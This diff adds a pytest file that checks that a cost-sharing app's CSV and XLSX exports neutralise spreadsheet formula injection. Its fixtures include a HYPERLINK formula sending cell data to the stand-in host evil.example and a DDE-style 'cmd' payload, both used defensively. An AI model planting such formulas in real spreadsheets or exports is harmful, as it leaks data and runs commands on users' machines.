@@ -1,0 +1,92 @@
+"""Input hardening: spreadsheet cells that would run as formulas, settings, proxies."""
+
+from __future__ import annotations
+
+import csv
+import io
+from decimal import Decimal
+
+import pytest
+from openpyxl import load_workbook
+
+from costshare.xlsx import Column, Sheet, safe_cell, unguard_cell, workbook
+from tests.invoices.support import issued_run
+
+EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        (EVIL, "'" + EVIL),
+        ("+SUM(1,2)", "'+SUM(1,2)"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("@SUM(1)", "'@SUM(1)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("-Infinity", "'-Infinity"),
+        ("- 5", "'- 5"),
+        ("-5", "-5"),
+        ("+1.25", "+1.25"),
+        ("-1.5e3", "-1.5e3"),
+        ("Library = books", "Library = books"),
+        ("", ""),
+        (Decimal("-5.00"), Decimal("-5.00")),
+        (-7, -7),
+        (None, None),
+    ],
+)
+def test_one_guard_keeps_formulas_text_and_numbers_numbers(value, written) -> None:
+    assert safe_cell(value) == written
+    if isinstance(written, str):
+        assert unguard_cell(written) == value
+
+
+def test_every_xlsx_table_writes_formula_text_as_text() -> None:
+    sheet = Sheet(
+        "T",
+        [Column("name"), Column("amount", "money", "EUR")],
+        [[EVIL, Decimal("-3.50")]],
+        notes=["=1+1"],
+    )
+    ws = load_workbook(io.BytesIO(workbook([sheet]))).active
+    assert ws["A1"].value == "'=1+1"
+    assert ws["A3"].value == "'" + EVIL and ws["A3"].data_type == "s"
+    assert ws["B3"].value == -3.5 and ws["B3"].data_type == "n"
+
+
+def _csv_rows(data: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+
+
+def test_member_exports_neutralise_a_formula_name(as_coordinator, world, session) -> None:
+    world.own.name = EVIL
+    session.flush()
+    rows = _csv_rows(as_coordinator.get("/members/export.csv").data)
+    names = [row[rows[0].index("name")] for row in rows[1:]]
+    assert "'" + EVIL in names and EVIL not in names
+
+    ws = load_workbook(io.BytesIO(as_coordinator.get("/members/export.xlsx").data)).active
+    header = [c.value for c in ws[1]]
+    cells = [row[header.index("name")] for row in ws.iter_rows(min_row=2)]
+    evil = [c for c in cells if c.value == "'" + EVIL]
+    assert len(evil) == 1 and evil[0].data_type == "s"
+    assert not any(c.data_type == "f" for c in cells)
+
+
+def test_invoice_exports_neutralise_a_formula_name(as_coordinator, world, session, app) -> None:
+    with app.test_request_context():
+        issued_run(session, world)
+    world.own.name = EVIL
+    session.flush()
+    rows = _csv_rows(as_coordinator.get("/billing/export/invoices.csv").data)
+    names = [row[rows[0].index("member_name")] for row in rows[1:]]
+    assert "'" + EVIL in names and EVIL not in names
+
+    ws = load_workbook(io.BytesIO(as_coordinator.get("/billing/export/invoices.xlsx").data)).active
+    header = [c.value for c in ws[1]]
+    cells = [row[header.index("member_name")] for row in ws.iter_rows(min_row=2)]
+    assert "'" + EVIL in [c.value for c in cells]
+    assert not any(c.data_type == "f" for c in cells)
+    gross = [row[header.index("gross")] for row in ws.iter_rows(min_row=2)]
+    assert all(c.data_type == "n" for c in gross)
